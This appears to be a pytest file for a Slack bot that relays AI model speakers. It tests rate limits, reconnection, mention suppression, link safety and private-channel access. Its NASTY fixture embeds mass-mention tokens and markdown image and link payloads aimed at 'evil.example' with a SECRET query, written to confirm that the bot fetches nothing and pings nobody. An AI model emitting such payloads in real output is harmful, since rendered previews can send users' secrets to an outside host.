"""What users of such bots complain about, 14 to 25 of the twenty-five in reference/slack.md, section 14."""

import asyncio
import re
from pathlib import Path

from tests.contracts.platform import ADA, BO, a_card, card_post, speech
from tests.servers.slack import Manifest, Rates, Refused
from tests.servers.slack.manifest import MANIFEST
from tests.slack.house import QUICK, house
from tests.slack.stages import place_of, platform, server
from tests.slack.talk import LONG, SHORT, begun, status, told

NASTY = (
    "<!channel> <!here|here> <@U1> <!subteam^S1> @channel @here @everyone\n"
    "![p](https://evil.example/p.png?q=SECRET) [click](https://evil.example/?q=SECRET) https://evil.example/x"
)


async def test_trap_14_threads_have_no_slash_commands_so_a_mention_takes_their_place(tmp_path: Path) -> None:
    """The same words."""
    async with server() as slack, house(slack, tmp_path) as it:
        root = slack.say("ben", "general", "Invoices are late.")
        slack.say("ada", "general", f"@panel {SHORT}", thread_ts=root.ts)
        await slack.until(lambda: slack.posts("general"), 10)
        await status(it, "finished")

    assert slack.posts("general")[0].thread_ts == root.ts


async def test_trap_15_a_panel_does_not_live_on_history(tmp_path: Path) -> None:
    """An app outside the Marketplace reads one page a minute; a whole panel needs no more."""
    rates = Rates(post_interval=0.001, post_burst=1000, history_per_minute=1, history_page=15)
    async with server(rates=rates) as slack, house(slack, tmp_path) as it:
        await begun(it, SHORT)
        await status(it, "finished", 30)
        files = [file.name for post in slack.posts("general") for file in post.files]
        read = slack.calls_of("conversations.replies", "ok") + slack.calls_of("conversations.history", "ok")

    assert len(read) <= 2
    assert len(files) == 2


async def test_trap_16_edits_stay_within_slack_s_limit(tmp_path: Path) -> None:
    """The newest state counts; those between are left out."""
    async with server(rates=Rates(post_interval=0.001, post_burst=1000)) as slack, house(slack, tmp_path) as it:
        await begun(it, LONG.replace("--rounds 8", "--rounds 20"))
        await status(it, "finished", 40)
        await slack.until(lambda: "Finished" in slack.posts("general")[0].shown, 10)
        updates = slack.calls_of("chat.update")

    assert not [call for call in updates if call.outcome == "ratelimited"]
    assert len(updates) < 20


async def test_trap_17_a_socket_that_went_deaf_is_replaced(tmp_path: Path) -> None:
    """Within the set time, by a fresh client."""
    watch = QUICK.__class__(ping=5.0, tick=0.05, connect=1.0, grace=0.4, deaf=0.8, quiet=60.0, rest=0.05)
    async with server() as slack, house(slack, tmp_path, watch=watch) as it:
        slack.sockets.fall_silent(answers_pings=False)
        await slack.sockets.has_connected(2)
        await slack.until(lambda: it.surface.health.connections >= 2)


async def test_trap_18_events_that_nobody_handles_are_confirmed_all_the_same(tmp_path: Path) -> None:
    """Or Slack turns the subscriptions off."""
    text = MANIFEST.read_text("utf-8")
    more = text.replace("      - app_mention\n", "      - app_mention\n      - channel_archive\n", 1)
    file = tmp_path / "manifest.yaml"
    file.write_text(more)
    async with server(manifest=Manifest.load(file)) as slack, house(slack, tmp_path) as it:
        slack.archive("general")
        await it.settled()

    assert [(ack.name, ack.state) for ack in slack.acks if ack.name == "channel_archive"] == [
        ("channel_archive", "acked")
    ]


async def test_trap_19_what_a_model_says_calls_nobody() -> None:
    """Not in the block, not in the notification's text, not with the name in front."""
    async with server() as slack, platform(slack) as made:
        place = place_of(slack)
        await made.post(place, speech(2, ADA, NASTY, label=NASTY))
        slack.drop_scope("chat:write.customize")
        await made.post(place, speech(3, BO, NASTY))
        await made.edit_card(place, await made.post(place, card_post()), a_card(topic=NASTY, decision=NASTY))
        pings = slack.pings()

    assert pings == []


async def test_trap_20_nothing_is_fetched_and_no_unknown_link_can_be_clicked() -> None:
    """No previews, no pictures: that is how secrets leave."""
    async with server() as slack, platform(slack) as made:
        place = place_of(slack)
        await made.post(place, speech(2, ADA, NASTY))
        post = slack.posts("general")[0]

    assert slack.fetched() == []
    assert post.effects.links == ()
    assert "evil.example" in post.shown


async def test_trap_21_a_private_channel_s_link_is_not_read_for_a_stranger_to_it(tmp_path: Path) -> None:
    """The bot could; the asker could not."""
    async with server() as slack, house(slack, tmp_path):
        secret = slack.say("iris", "lab", "The layoffs are in May.")
        address = slack.workspace.permalink(slack.channel("lab"), secret)
        await slack.slash("ben", "general", f"council {address}")
        await slack.until(lambda: slack.whispers_to("ben"))

    assert "layoffs" not in told(slack, "ben")


async def test_trap_22_no_reply_is_broadcast(tmp_path: Path) -> None:
    """Its copy in the channel would have no name."""
    async with server() as slack, house(slack, tmp_path) as it:
        await begun(it, SHORT)
        await status(it, "finished")

    assert not [call for call in slack.calls if "reply_broadcast" in call.arguments]


async def test_trap_23_whoever_started_it_can_stop_it_at_once(tmp_path: Path) -> None:
    """By the button, within a second."""
    async with server() as slack, house(slack, tmp_path, delay=2.0) as it:
        await slack.slash("ada", "general", LONG)
        await slack.until(lambda: slack.posts("general"))
        await slack.press("ada", slack.posts("general")[0], "Stop")
        await status(it, "stopped", 1.0)
        await asyncio.sleep(0.3)

    assert [post for post in slack.posts("general") if post.username] == []


async def test_trap_24_an_app_shared_by_many_exhausts_no_listing(tmp_path: Path) -> None:
    """Nobody's channels are listed, and one socket is enough."""
    async with server() as slack, house(slack, tmp_path) as it:
        await begun(it, SHORT)
        await status(it, "finished")

    assert slack.calls_of("conversations.list") == []
    assert slack.calls_of("users.list") == []
    assert slack.sockets.connected == 1


async def test_trap_25_a_file_type_that_is_refused_keeps_no_other_back(tmp_path: Path) -> None:
    """Slack Connect refuses some."""
    async with server() as slack, house(slack, tmp_path) as it:
        slack.fault("files.completeUploadExternal", Refused(error="file_type_not_allowed"), times=2)
        await begun(it, SHORT)
        await status(it, "finished")
        files = [file.name for post in slack.posts("general") for file in post.files]

    assert len(files) == 1


def test_every_trap_has_its_test() -> None:
    """One to twenty-five."""
    texts = [Path(__file__).with_name(name).read_text("utf-8") for name in ("test_traps.py", "test_traps_more.py")]
    names = re.findall(r"def test_trap_(\d\d)_", "".join(texts))

    assert [int(name) for name in names] == list(range(1, 26))
